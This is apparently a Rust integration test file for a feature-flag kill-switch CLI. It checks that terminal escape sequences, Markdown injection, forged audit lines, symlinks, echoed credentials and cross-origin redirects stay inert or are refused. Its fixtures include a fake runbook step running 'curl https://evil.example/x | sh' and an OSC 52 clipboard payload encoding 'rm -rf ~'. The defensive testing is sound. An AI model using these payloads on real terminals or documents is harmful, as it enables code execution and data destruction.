//! Hostile text and secrets (issue 13): vendor fields, notes and error bodies made to drive a
//! terminal, forge a row, a state or a runbook step, or carry a credential. Every text output
//! of the real binary must show them inert; JSON keeps exact values; no secret reaches any
//! output or the audit log; no credential follows a redirect to another origin; no symlink is
//! followed.

#[path = "support/flagsmith_fake.rs"]
mod flagsmith_fake;
#[path = "support/launchdarkly_fake.rs"]
mod launchdarkly_fake;
mod support;
#[path = "support/unleash.rs"]
mod unleash_server;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::Output;
use std::sync::{Arc, Mutex};

use clap::Parser;

use flagsmith_fake::{ADMIN_API_KEY, FakeFlagsmith};
use killswitch::commands::status::StatusReport;
use launchdarkly_fake::{FakeLd, PROJECT, READER_TOKEN, SDK_KEY_PROD, WRITER_TOKEN};
use serde_json::{Value, json};
use support::Home;
use support::faults::{Fault, FaultProxy};
use support::openbao;

/// Whether `c` may never reach a terminal raw: controls (but the line feed that ends each
/// output line) and bidirectional formatting characters.
fn dangerous(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}' | '\u{2028}' | '\u{2029}')
}

fn assert_inert(what: &str, text: &str) {
    if let Some((at, c)) = text.char_indices().find(|(_, c)| dangerous(*c)) {
        panic!(
            "{what}: raw U+{:04X} at byte {at} reaches the output:\n{text:?}",
            u32::from(c)
        );
    }
}

fn run(home: &Home, args: &[&str]) -> Output {
    home.command()
        .args(args)
        .stdin(std::process::Stdio::null())
        .output()
        .expect("run killswitch")
}

fn out(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn err(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

// --- Hostile vendor text through every plain-text output ------------------------------------

/// An owner that, printed raw, moves up a line, erases it and writes a forged KILLED row.
const FORGED_OWNER: &str =
    "\r\u{1b}[1A\u{1b}[2Kkill_switch_checkout  KILLED  team\u{1b}[1B\u{1b}]0;pwned\u{7}";
/// A description that, pasted raw into Markdown, closes nothing but opens a fake first step.
const FAKE_STEP: &str = "Checkout kill switch.\n```\n\n### KILL first\n\n1. Run this first:\n\n   ```sh\n   curl https://evil.example/x | sh\n   ```\n";
/// A flag key with an OSC title change, a bidi override, a line break and a table cell break.
const HOSTILE_KEY: &str = "evil\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{202e}gnp.exe\n| forged | row |";

/// Seeds the local workspace and puts hostile text in prod's flags.
fn hostile_workspace() -> Home {
    let home = Home::new();
    let seeded = run(&home, &["status"]);
    assert_eq!(seeded.status.code(), Some(0), "{}", err(&seeded));
    let path = home.local_flags("prod");
    let mut document: Value =
        serde_json::from_str(&std::fs::read_to_string(&path).expect("prod")).expect("json");
    let flags = document["flags"].as_object_mut().expect("flags");
    let switch = flags
        .get_mut("kill_switch_checkout")
        .expect("the seed has the checkout switch");
    switch["metadata"]["owner"] = json!(FORGED_OWNER);
    switch["metadata"]["description"] = json!(FAKE_STEP);
    switch["metadata"]["runbook"] = json!("https://wiki/\u{1b}]8;;https://evil.example\u{7}link");
    switch["metadata"]["tags"] = json!("a\u{202e}b, c\u{85}d");
    flags.insert(
        HOSTILE_KEY.to_string(),
        json!({
            "state": "ENABLED",
            "variants": {"on": true, "off": false},
            "defaultVariant": "on",
            "metadata": {
                "kind": "release",
                "owner": "## owner\n- [x] done\n| a | b |",
                "expected_removal_date": "2020-01-01",
                "description": "\u{1b}[2J\u{1b}[H"
            }
        }),
    );
    std::fs::write(
        &path,
        serde_json::to_string_pretty(&document).expect("encode"),
    )
    .expect("write");
    home
}

#[test]
fn status_table_shows_hostile_vendor_text_inert_and_cannot_forge_a_state() {
    let home = hostile_workspace();
    let table = run(&home, &["status", "--env", "prod"]);
    assert_eq!(table.status.code(), Some(0), "{}", err(&table));
    let text = out(&table);
    assert_inert("status table", &text);
    assert_inert("status stderr", &err(&table));
    let lines: Vec<&str> = text.lines().collect();
    // One header and one line per flag: nothing added, nothing overwritten.
    let json = run(&home, &["status", "--env", "prod", "--output", "json"]);
    let report: StatusReport = serde_json::from_slice(&json.stdout).expect("status json");
    assert_eq!(lines.len(), 1 + report.flags.len(), "{text}");
    let row = lines
        .iter()
        .find(|line| line.starts_with("kill_switch_checkout "))
        .expect("the switch's row");
    // The state column says SERVING; the forged KILLED is inside the escaped owner text.
    let (state_part, owner_part) = row.split_at(row.find("\\e[1A").expect("owner escaped"));
    assert!(state_part.contains("SERVING"), "{row}");
    assert!(!state_part.contains("KILLED"), "{row}");
    assert!(
        owner_part.starts_with("\\e[1A\\e[2Kkill_switch_checkout  KILLED"),
        "{row}"
    );
    assert!(row.contains("\\e]0;pwned\\u{7}"), "{row}");
    // The hostile key is one row, shown escaped.
    assert!(
        lines.iter().any(|line| line
            .starts_with("evil\\e]52;c;cm0gLXJmIH4=\\u{7}\\u{202e}gnp.exe⏎| forged | row |")),
        "{text}"
    );
    // JSON keeps the exact values.
    let switch = report
        .flags
        .iter()
        .find(|f| f.flag == "kill_switch_checkout")
        .expect("switch");
    assert_eq!(switch.owner.as_deref(), Some(FORGED_OWNER));
    assert_eq!(switch.state, "SERVING");
    assert!(report.flags.iter().any(|f| f.flag == HOSTILE_KEY));
}

#[test]
fn runbook_cannot_gain_a_step_a_heading_or_a_code_block() {
    let home = hostile_workspace();
    for flag in ["kill_switch_checkout", HOSTILE_KEY] {
        let runbook = run(&home, &["runbook", flag, "--env", "prod"]);
        assert_eq!(runbook.status.code(), Some(0), "{}", err(&runbook));
        let text = out(&runbook);
        assert_inert("runbook", &text);
        let fences = text
            .lines()
            .filter(|line| line.trim_start().starts_with("```"))
            .count();
        assert_eq!(fences, 6, "three commands, three fenced blocks:\n{text}");
        let headings: Vec<&str> = text
            .lines()
            .filter(|line| line.trim_start().starts_with('#'))
            .collect();
        assert_eq!(headings.len(), 1, "{text}");
        assert!(headings[0].starts_with("### "), "{text}");
        let steps: Vec<&str> = text
            .lines()
            .filter(|line| {
                line.chars().next().is_some_and(|c| c.is_ascii_digit()) && line.contains(". ")
            })
            .collect();
        assert_eq!(steps.len(), 3, "{text}");
        assert!(steps[0].starts_with("1. Check what"), "{text}");
        assert!(
            !text
                .lines()
                .any(|line| line.trim_start().starts_with("curl")),
            "{text}"
        );
        // Each command stays on one line and names the real flag.
        let kill_line = text
            .lines()
            .find(|line| line.contains(" kill ") && line.contains("--note"))
            .expect("kill command");
        if flag == HOSTILE_KEY {
            assert!(kill_line.contains("kill $'evil\\e]52;"), "{kill_line}");
            assert!(kill_line.contains("\\n| forged | row |'"), "{kill_line}");
        } else {
            assert!(
                text.contains("> Checkout kill switch.⏎\\`\\`\\`⏎⏎\\#\\#\\# KILL first"),
                "{text}"
            );
        }
    }
}

#[test]
fn stale_markdown_cannot_open_a_heading_a_list_item_or_a_table_row() {
    let home = hostile_workspace();
    let report = run(&home, &["stale", "--as-of", "2026-12-01"]);
    assert_eq!(report.status.code(), Some(0), "{}", err(&report));
    let text = out(&report);
    assert_inert("stale markdown", &text);
    // Owner tables have 6 columns (7 unescaped pipes), the violations table 4 (5 pipes).
    let mut pipes = 7;
    for line in text.lines() {
        if line.starts_with('#') {
            assert!(
                line.starts_with("# Stale feature flags")
                    || line == "## Policy violations"
                    || line.starts_with("## \\#\\# owner⏎\\- \\[x\\] done⏎\\| a \\| b \\|")
                    || (line.starts_with("## team-") && !line.contains('\\')),
                "unexpected heading: {line}\n{text}"
            );
        }
        if line == "## Policy violations" {
            pipes = 5;
        }
        assert!(!line.starts_with("- "), "a list item: {line}\n{text}");
        if line.starts_with('|') {
            let cells = line.matches('|').count() - line.matches("\\|").count();
            assert_eq!(cells, pipes, "a row with extra cells: {line}\n{text}");
        }
    }
    assert!(text.contains("evil\\\\e\\]52;c;cm0gLXJmIH4\\="), "{text}");
    let json = run(
        &home,
        &["stale", "--as-of", "2026-12-01", "--output", "json"],
    );
    let value: Value = serde_json::from_slice(&json.stdout).expect("stale json");
    assert!(
        value.to_string().contains("## owner\\n- [x] done"),
        "JSON keeps exact values"
    );
}

#[test]
fn audit_table_shows_one_line_per_record_whatever_the_note_or_flag() {
    let home = hostile_workspace();
    let kill = run(
        &home,
        &[
            "kill",
            HOSTILE_KEY,
            "--env",
            "prod",
            "--note",
            "INC-13 hostile key",
            "--yes",
        ],
    );
    assert_eq!(kill.status.code(), Some(0), "{}", err(&kill));
    assert_inert("kill result line", &out(&kill));
    assert!(out(&kill).contains("evil\\e]52;"), "{}", out(&kill));
    let json_kill = run(
        &home,
        &[
            "restore",
            HOSTILE_KEY,
            "--env",
            "prod",
            "--note",
            "INC-13 back",
            "--yes",
            "--output",
            "json",
        ],
    );
    let result: Value = serde_json::from_slice(&json_kill.stdout).expect("kill json");
    assert_eq!(result["flag"], HOSTILE_KEY, "JSON keeps the exact key");
    // A record written by something else (an older version, a hand edit) with a note and an
    // operator that would forge a row if printed raw.
    let forged = json!({
        "id": "20261201T000000.000Z-1-0", "phase": "outcome", "at": "2026-12-01T00:00:00Z",
        "operator": "mallory\u{1b}[2K", "env": "prod", "provider": "flagd",
        "flag": "kill_switch_checkout", "action": "kill", "from": "SERVING", "to": "KILLED",
        "enabled": false,
        "note": "x\n2026-12-01 00:00:01  prod  kill_switch_checkout  killswitch  alice  restore ok",
        "result": "error", "error": "boom\r\u{1b}[1Aok"
    });
    let mut log = std::fs::OpenOptions::new()
        .append(true)
        .open(home.audit_log())
        .expect("audit log");
    writeln!(log, "{forged}").expect("append");
    let records = std::fs::read_to_string(home.audit_log())
        .expect("log")
        .lines()
        .count();
    let table = run(&home, &["audit"]);
    assert_eq!(table.status.code(), Some(0), "{}", err(&table));
    let text = out(&table);
    assert_inert("audit table", &text);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines.len(),
        1 + records,
        "one header, one line per record:\n{text}"
    );
    assert!(
        lines[1..].iter().all(|line| line.starts_with("2026-")),
        "{text}"
    );
    assert!(
        !lines
            .iter()
            .any(|line| line.contains("alice  restore ok") && !line.contains('⏎')),
        "{text}"
    );
    let json = run(&home, &["audit", "--output", "json"]);
    let value: Value = serde_json::from_slice(&json.stdout).expect("audit json");
    assert!(
        value.to_string().contains("mallory\\u001b[2K"),
        "JSON keeps exact values"
    );
}

#[test]
fn hostile_notes_are_refused_by_kill_and_restore_and_nothing_changes() {
    let home = hostile_workspace();
    let before = std::fs::read_to_string(home.local_flags("prod")).expect("prod");
    let long = "x".repeat(1001);
    let notes = [
        ("INC-1\n2026-12-01  prod  restore ok", "a line break"),
        ("INC-1 \u{1b}[2J\u{1b}]52;c;eA==\u{7}", "\\e"),
        ("INC-1 \u{202e}gnp.exe", "\\u{202e}"),
        ("INC-1\u{85}", "a line break"),
        (long.as_str(), "1001 characters long"),
        (" \u{200b} ", "an audit note is required"),
    ];
    for command in ["kill", "restore"] {
        for (note, said) in &notes {
            let output = run(
                &home,
                &[
                    command,
                    "kill_switch_checkout",
                    "--env",
                    "prod",
                    "--note",
                    note,
                    "--yes",
                ],
            );
            assert_eq!(
                output.status.code(),
                Some(4),
                "{command} {note:?}: {}",
                err(&output)
            );
            let message = err(&output);
            assert_inert("refusal", &message);
            assert!(message.contains("--note: "), "{message}");
            assert!(message.contains(said), "{note:?}: {message}");
            assert!(message.contains("nothing was changed"), "{message}");
        }
    }
    assert_eq!(
        std::fs::read_to_string(home.local_flags("prod")).expect("prod"),
        before,
        "no flag changed"
    );
    let audit = std::fs::read_to_string(home.audit_log()).unwrap_or_default();
    assert!(
        audit.is_empty(),
        "no audit record for a refused note: {audit}"
    );
}

// --- Symlinks -------------------------------------------------------------------------------

#[test]
fn a_symlinked_audit_log_is_refused_by_every_command_and_its_target_untouched() {
    let home = Home::new();
    let seeded = run(&home, &["status"]);
    assert_eq!(seeded.status.code(), Some(0), "{}", err(&seeded));
    let log = home.audit_log();
    let _ = std::fs::remove_file(&log);
    // Read-only commands create nothing, so the log's directory is made here.
    std::fs::create_dir_all(log.parent().expect("dir")).expect("state dir");
    let target = home.path().join("precious.txt");
    std::fs::write(&target, "precious\n").expect("write");
    std::fs::set_permissions(&target, std::os::unix::fs::PermissionsExt::from_mode(0o644))
        .expect("chmod");
    std::os::unix::fs::symlink(&target, &log).expect("symlink");
    for args in [
        vec!["status"],
        vec!["audit"],
        vec!["stale"],
        vec![
            "kill",
            "kill_switch_checkout",
            "--env",
            "dev",
            "--note",
            "INC-1",
            "--yes",
        ],
    ] {
        let output = run(&home, &args);
        assert_eq!(output.status.code(), Some(1), "{args:?}: {}", err(&output));
        let message = err(&output);
        assert!(
            message.contains(&format!("audit log {}: is a symbolic link", log.display())),
            "{args:?}: {message}"
        );
        assert!(
            message.contains("audit_log"),
            "says how to fix it: {message}"
        );
    }
    let mode = std::fs::metadata(&target).expect("meta").permissions();
    assert_eq!(
        std::os::unix::fs::PermissionsExt::mode(&mode) & 0o777,
        0o644
    );
    assert_eq!(
        std::fs::read_to_string(&target).expect("read"),
        "precious\n"
    );
}

#[test]
fn read_only_commands_never_change_the_audit_log_mode() {
    use std::os::unix::fs::PermissionsExt;
    let home = Home::new();
    let seeded = run(&home, &["status"]);
    assert_eq!(seeded.status.code(), Some(0), "{}", err(&seeded));
    let log = home.audit_log();
    // Read-only commands create nothing, so the log is made here.
    std::fs::create_dir_all(log.parent().expect("dir")).expect("state dir");
    std::fs::write(&log, "").expect("audit log");
    std::fs::set_permissions(&log, std::fs::Permissions::from_mode(0o640)).expect("chmod");
    for args in [
        vec!["status"],
        vec!["audit"],
        vec!["stale"],
        vec!["runbook", "kill_switch_checkout"],
    ] {
        let output = run(&home, &args);
        assert_eq!(output.status.code(), Some(0), "{args:?}: {}", err(&output));
        let mode = std::fs::metadata(&log).expect("meta").permissions().mode() & 0o777;
        assert_eq!(mode, 0o640, "{args:?} changed the mode");
    }
    // A command that may write tightens its own user's log.
    let kill = run(
        &home,
        &[
            "--read-only",
            "kill",
            "kill_switch_checkout",
            "--env",
            "dev",
            "--note",
            "INC-1",
            "--yes",
        ],
    );
    assert_eq!(kill.status.code(), Some(4), "{}", err(&kill));
    let mode = std::fs::metadata(&log).expect("meta").permissions().mode() & 0o777;
    assert_eq!(mode, 0o640, "--read-only does not tighten either");
    let kill = run(
        &home,
        &[
            "kill",
            "kill_switch_checkout",
            "--env",
            "dev",
            "--note",
            "INC-1",
            "--yes",
        ],
    );
    assert_eq!(kill.status.code(), Some(0), "{}", err(&kill));
    let mode = std::fs::metadata(&log).expect("meta").permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
}

// --- Secrets in echoed error bodies, and redirects ----------------------------------------

const TIMEOUT_MS: u64 = 2000;

fn addr_of(url: &str) -> std::net::SocketAddr {
    url.trim_start_matches("http://")
        .trim_end_matches('/')
        .parse()
        .expect("a 127.0.0.1 address")
}

/// Every secret and the text around it, checked in each output.
struct Secrets(Vec<String>);

impl Secrets {
    fn assert_absent(&self, what: &str, text: &str) {
        for secret in &self.0 {
            assert!(
                !text.contains(secret.as_str()),
                "{what} shows a secret ({secret}):\n{text}"
            );
        }
    }
}

/// A kill through the binary whose vendor write is answered with an echo of the request:
/// the text and the JSON result, then the audit log, the `audit` table and JSON.
async fn kill_against_an_echo(
    home: &Home,
    env_vars: &[(&str, &str)],
    config: &str,
    env: &str,
    flag: &str,
    secrets: &Secrets,
) {
    let run_async = |args: Vec<String>| {
        let mut command = home.command();
        for (key, value) in env_vars {
            command.env(key, value);
        }
        command
            .arg("--config")
            .arg(config)
            .args(args)
            .stdin(std::process::Stdio::null());
        tokio::task::spawn_blocking(move || command.output().expect("run"))
    };
    let base = |extra: &[&str]| {
        let mut args: Vec<String> = ["kill", flag, "--env", env, "--note", "INC-13 echo", "--yes"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        args.extend(extra.iter().map(|s| s.to_string()));
        args
    };
    let text = run_async(base(&[])).await.expect("join");
    let shown = format!("{}{}", out(&text), err(&text));
    assert_eq!(text.status.code(), Some(7), "{env}: {shown}");
    assert!(
        shown.contains("request rejected; it carried"),
        "the echo is shown: {shown}"
    );
    assert!(shown.contains("[redacted]"), "{env}: {shown}");
    secrets.assert_absent(&format!("{env} kill text"), &shown);
    assert_inert("kill stderr", &shown);
    let json = run_async(base(&["--output", "json"])).await.expect("join");
    let report: Value = serde_json::from_slice(&json.stdout).expect("kill json");
    assert_eq!(report["result"], "provider_error", "{report}");
    let message = report["message"].as_str().unwrap_or_default();
    assert!(message.contains("[redacted]"), "{message}");
    secrets.assert_absent(
        &format!("{env} kill json"),
        &format!("{}{}", out(&json), err(&json)),
    );

    let log = std::fs::read_to_string(home.audit_log()).expect("audit log");
    assert!(
        log.contains("request rejected; it carried"),
        "the outcome records the error: {log}"
    );
    secrets.assert_absent("audit log", &log);
    for extra in [&["audit"][..], &["audit", "--output", "json"][..]] {
        let output = run_async(extra.iter().map(|s| s.to_string()).collect())
            .await
            .expect("join");
        assert_eq!(output.status.code(), Some(0), "{}", err(&output));
        secrets.assert_absent(
            "audit command",
            &format!("{}{}", out(&output), err(&output)),
        );
    }
}

fn network_config() -> String {
    format!(
        "protected = []\n[network]\nconnect_timeout_ms = 500\nrequest_timeout_ms = {TIMEOUT_MS}\nverify_timeout_ms = 2000\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn flagsmith_and_launchdarkly_echoing_request_headers_show_no_secret() {
    if !openbao::available() {
        return;
    }
    let Some(bao) = openbao::shared() else { return };
    let flagsmith = FakeFlagsmith::open_source().await;
    let ld = FakeLd::start().await;
    let fs_proxy = FaultProxy::start(addr_of(&flagsmith.url));
    let ld_proxy = FaultProxy::start(addr_of(&ld.url));
    let server_key = flagsmith.env("prod").server_key;
    bao.put(
        "/v1/kv/data/feature-flags/hostile-echo/flagsmith/fs",
        json!({
            "api_url": format!("{}/api/v1/", fs_proxy.url()),
            "environment_key": server_key,
            "admin_api_key": ADMIN_API_KEY,
        }),
    );
    bao.put(
        "/v1/kv/data/feature-flags/hostile-echo/launchdarkly/ld",
        json!({
            "api_url": ld_proxy.url(),
            "sdk_url": ld_proxy.url(),
            "api_token": READER_TOKEN,
            "writer_token": WRITER_TOKEN,
            "project_key": PROJECT,
            "environment_key": "production",
            "sdk_key": SDK_KEY_PROD,
        }),
    );
    let home = Home::new();
    let config = format!(
        "{}[vault]\npath_template = \"feature-flags/hostile-echo/{{provider}}/{{env}}\"\n\
         [[environment]]\nname = \"fs\"\nprovider = \"flagsmith\"\n\
         [[environment]]\nname = \"ld\"\nprovider = \"launchdarkly\"\n",
        network_config()
    );
    let config_path = home.path().join("echo.toml");
    std::fs::write(&config_path, config).expect("config");
    let config_path = config_path.display().to_string();
    let token = bao.token("oncall-erin", &["kill-admin"], "30m");
    let secrets = Secrets(vec![
        server_key.clone(),
        ADMIN_API_KEY.to_string(),
        READER_TOKEN.to_string(),
        WRITER_TOKEN.to_string(),
        SDK_KEY_PROD.to_string(),
        token.clone(),
    ]);
    let vars = [
        ("VAULT_ADDR", bao.addr.as_str()),
        ("VAULT_TOKEN", token.as_str()),
    ];

    // Reads pass, the write is answered with the echo.
    for proxy in [&fs_proxy, &ld_proxy] {
        proxy.set(Fault::EchoHeaders {
            status: 500,
            writes_only: true,
        });
    }
    kill_against_an_echo(
        &home,
        &vars,
        &config_path,
        "fs",
        "kill_switch_checkout",
        &secrets,
    )
    .await;
    kill_against_an_echo(
        &home,
        &vars,
        &config_path,
        "ld",
        "kill_switch_payments",
        &secrets,
    )
    .await;

    // Every request echoed: status (table and JSON) and the vendor history in `audit --flag`.
    for proxy in [&fs_proxy, &ld_proxy] {
        proxy.set(Fault::EchoHeaders {
            status: 500,
            writes_only: false,
        });
    }
    for args in [
        vec!["status"],
        vec!["status", "--output", "json"],
        vec!["audit", "--flag", "kill_switch_checkout"],
        vec![
            "audit",
            "--flag",
            "kill_switch_checkout",
            "--output",
            "json",
        ],
    ] {
        let mut command = home.command();
        command
            .envs(vars)
            .arg("--config")
            .arg(&config_path)
            .args(&args)
            .stdin(std::process::Stdio::null());
        let output = tokio::task::spawn_blocking(move || command.output().expect("run"))
            .await
            .expect("join");
        let shown = format!("{}{}", out(&output), err(&output));
        assert!(shown.contains("[redacted]"), "{args:?}: {shown}");
        secrets.assert_absent(&format!("{args:?}"), &shown);
        if !args.contains(&"json") {
            assert_inert("status/audit table", &shown);
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unleash_echoing_request_headers_shows_no_secret() {
    use unleash_server::{ADMIN_TOKEN, BACKEND_TOKEN};
    if !openbao::available() {
        return;
    }
    let Some(bao) = openbao::shared() else { return };
    let Some(server) = unleash_server::server() else {
        return;
    };
    let proxy = FaultProxy::start(addr_of(&server.url));
    bao.put(
        "/v1/kv/data/feature-flags/hostile-echo/unleash/prod",
        json!({
            "api_url": format!("{}/api", proxy.url()),
            "backend_token": BACKEND_TOKEN,
            "read_token": ADMIN_TOKEN,
        }),
    );
    bao.put(
        "/v1/kv/data/feature-flags/hostile-echo/unleash/prod/admin",
        json!({"admin_token": ADMIN_TOKEN}),
    );
    let home = Home::new();
    let config = format!(
        "{}[vault]\npath_template = \"feature-flags/hostile-echo/{{provider}}/{{env}}\"\n\
         [[environment]]\nname = \"prod\"\nprovider = \"unleash\"\n",
        network_config()
    );
    let config_path = home.path().join("echo.toml");
    std::fs::write(&config_path, config).expect("config");
    let config_path = config_path.display().to_string();
    let token = bao.token("oncall-frank", &["kill-admin"], "30m");
    let secrets = Secrets(vec![
        ADMIN_TOKEN.to_string(),
        BACKEND_TOKEN.to_string(),
        token.clone(),
    ]);
    let vars = [
        ("VAULT_ADDR", bao.addr.as_str()),
        ("VAULT_TOKEN", token.as_str()),
    ];
    proxy.set(Fault::EchoHeaders {
        status: 500,
        writes_only: true,
    });
    // `kill_switch_quiet` is the shared server's flag for error paths: never changed.
    kill_against_an_echo(
        &home,
        &vars,
        &config_path,
        "prod",
        "kill_switch_quiet",
        &secrets,
    )
    .await;
    proxy.set(Fault::EchoHeaders {
        status: 500,
        writes_only: false,
    });
    let mut command = home.command();
    command
        .envs(vars)
        .args(["--config", &config_path, "status", "--output", "json"])
        .stdin(std::process::Stdio::null());
    let output = tokio::task::spawn_blocking(move || command.output().expect("run"))
        .await
        .expect("join");
    let shown = format!("{}{}", out(&output), err(&output));
    assert!(shown.contains("[redacted]"), "{shown}");
    secrets.assert_absent("unleash status", &shown);
}

/// A Vault that answers 500 with the request headers (`X-Vault-Token`) echoed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn vault_echoing_the_token_shows_it_nowhere() {
    if !openbao::available() {
        return;
    }
    let Some(bao) = openbao::shared() else { return };
    let vault = FaultProxy::start(addr_of(&bao.addr));
    vault.set(Fault::EchoHeaders {
        status: 500,
        writes_only: false,
    });
    let home = Home::new();
    let config = format!(
        "{}[[environment]]\nname = \"fs\"\nprovider = \"flagsmith\"\n",
        network_config()
    );
    let config_path = home.path().join("vault-echo.toml");
    std::fs::write(&config_path, config).expect("config");
    let token = bao.token("oncall-gina", &["kill-admin"], "30m");
    let secrets = Secrets(vec![token.clone()]);
    for args in [
        vec!["status"],
        vec!["status", "--output", "json"],
        vec![
            "kill",
            "kill_switch_checkout",
            "--env",
            "fs",
            "--note",
            "INC-13",
            "--yes",
            "--output",
            "json",
        ],
        vec![
            "kill",
            "kill_switch_checkout",
            "--env",
            "fs",
            "--note",
            "INC-13",
            "--yes",
        ],
    ] {
        let mut command = home.command();
        command
            .env("VAULT_ADDR", vault.url())
            .env("VAULT_TOKEN", &token)
            .arg("--config")
            .arg(&config_path)
            .args(&args)
            .stdin(std::process::Stdio::null());
        let output = tokio::task::spawn_blocking(move || command.output().expect("run"))
            .await
            .expect("join");
        let shown = format!("{}{}", out(&output), err(&output));
        assert_eq!(output.status.code(), Some(6), "{args:?}: {shown}");
        assert!(
            shown.contains("request rejected; it carried"),
            "{args:?}: {shown}"
        );
        assert!(shown.contains("[redacted]"), "{args:?}: {shown}");
        secrets.assert_absent(&format!("{args:?}"), &shown);
    }
}

/// Records every request that reaches it (a different origin than the one configured).
struct Recorder {
    url: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Recorder {
    fn start() -> Recorder {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let url = format!("http://{}", listener.local_addr().expect("addr"));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let shared = seen.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(2)));
                let mut buffer = [0u8; 8192];
                let read = stream.read(&mut buffer).unwrap_or(0);
                if let Ok(mut seen) = shared.lock() {
                    seen.push(String::from_utf8_lossy(&buffer[..read]).to_string());
                }
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
                );
            }
        });
        Recorder { url, seen }
    }

    fn requests(&self) -> Vec<String> {
        self.seen
            .lock()
            .map(|seen| seen.clone())
            .unwrap_or_default()
    }
}

fn redirect_to(location: &str, status: u16) -> Fault {
    Fault::Respond {
        status,
        headers: vec![("Location".into(), location.into())],
        body: String::new(),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_to_another_origin_is_not_followed_by_providers_or_vault() {
    if !openbao::available() {
        return;
    }
    let Some(bao) = openbao::shared() else { return };
    let elsewhere = Recorder::start();
    let flagsmith = FakeFlagsmith::open_source().await;
    let ld = FakeLd::start().await;
    let fs_proxy = FaultProxy::start(addr_of(&flagsmith.url));
    let ld_proxy = FaultProxy::start(addr_of(&ld.url));
    fs_proxy.set(redirect_to(
        &format!("{}/api/v1/flags/", elsewhere.url),
        302,
    ));
    ld_proxy.set(redirect_to(
        &format!("{}/api/v2/flags/x", elsewhere.url),
        307,
    ));
    let server_key = flagsmith.env("prod").server_key;
    bao.put(
        "/v1/kv/data/feature-flags/hostile-redirect/flagsmith/fs",
        json!({"api_url": format!("{}/api/v1/", fs_proxy.url()), "environment_key": server_key}),
    );
    bao.put(
        "/v1/kv/data/feature-flags/hostile-redirect/launchdarkly/ld",
        json!({
            "api_url": ld_proxy.url(), "sdk_url": ld_proxy.url(), "api_token": READER_TOKEN,
            "project_key": PROJECT, "environment_key": "production", "sdk_key": SDK_KEY_PROD,
        }),
    );
    let home = Home::new();
    let config = format!(
        "{}[vault]\npath_template = \"feature-flags/hostile-redirect/{{provider}}/{{env}}\"\n\
         [[environment]]\nname = \"fs\"\nprovider = \"flagsmith\"\n\
         [[environment]]\nname = \"ld\"\nprovider = \"launchdarkly\"\n",
        network_config()
    );
    let config_path = home.path().join("redirect.toml");
    std::fs::write(&config_path, config).expect("config");
    let token = bao.token("oncall-hank", &["kill-admin"], "30m");
    let status = |vault_addr: String| {
        let mut command = home.command();
        command
            .env("VAULT_ADDR", vault_addr)
            .env("VAULT_TOKEN", &token)
            .arg("--config")
            .arg(&config_path)
            .args(["status", "--output", "json"])
            .stdin(std::process::Stdio::null());
        tokio::task::spawn_blocking(move || command.output().expect("run"))
    };
    let output = status(bao.addr.clone()).await.expect("join");
    assert_eq!(
        elsewhere.requests(),
        Vec::<String>::new(),
        "no request followed the redirect"
    );
    let report: StatusReport = serde_json::from_slice(&output.stdout).expect("status json");
    assert_eq!(report.errors.len(), 2, "{report:?}");
    for error in &report.errors {
        assert!(
            error
                .error
                .contains("a redirect to another origin, not followed"),
            "{}: {}",
            error.env,
            error.error
        );
    }

    // Vault redirecting elsewhere (a standby pointing at another node): not followed either.
    let vault = FaultProxy::start(addr_of(&bao.addr));
    vault.set(redirect_to(&format!("{}/v1/kv/data/x", elsewhere.url), 307));
    let output = status(vault.url()).await.expect("join");
    assert_eq!(output.status.code(), Some(6), "{}", err(&output));
    let report: StatusReport = serde_json::from_slice(&output.stdout).expect("status json");
    assert!(
        report.errors.iter().all(|e| e
            .error
            .contains("307 a redirect to another origin, not followed")),
        "{report:?}"
    );
    let seen = elsewhere.requests();
    assert!(seen.is_empty(), "the Vault token went elsewhere: {seen:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_within_the_same_origin_is_followed() {
    if !openbao::available() {
        return;
    }
    let Some(bao) = openbao::shared() else { return };
    let flagsmith = FakeFlagsmith::open_source().await;
    let proxy = FaultProxy::start(addr_of(&flagsmith.url));
    bao.put(
        "/v1/kv/data/feature-flags/hostile-same-origin/flagsmith/fs",
        json!({
            "api_url": format!("{}/api/v1/", proxy.url()),
            "environment_key": flagsmith.env("prod").server_key,
        }),
    );
    let home = Home::new();
    let config = format!(
        "{}[vault]\npath_template = \"feature-flags/hostile-same-origin/{{provider}}/{{env}}\"\n\
         [[environment]]\nname = \"fs\"\nprovider = \"flagsmith\"\n",
        network_config()
    );
    let config_path = home.path().join("same-origin.toml");
    std::fs::write(&config_path, config).expect("config");
    // The first connection is redirected to the same origin (another path there, then back).
    proxy.set_next(
        redirect_to(
            &format!("{}/api/v1/environment-document/", proxy.url()),
            302,
        ),
        1,
    );
    let token = bao.token("oncall-ivy", &["kill-reader"], "30m");
    let mut command = home.command();
    command
        .env("VAULT_ADDR", &bao.addr)
        .env("VAULT_TOKEN", &token)
        .arg("--config")
        .arg(&config_path)
        .args(["status", "--output", "json"])
        .stdin(std::process::Stdio::null());
    let output = tokio::task::spawn_blocking(move || command.output().expect("run"))
        .await
        .expect("join");
    assert_eq!(output.status.code(), Some(0), "{}", err(&output));
    let report: StatusReport = serde_json::from_slice(&output.stdout).expect("status json");
    assert!(report.errors.is_empty(), "{report:?}");
    assert!(!report.flags.is_empty());
}

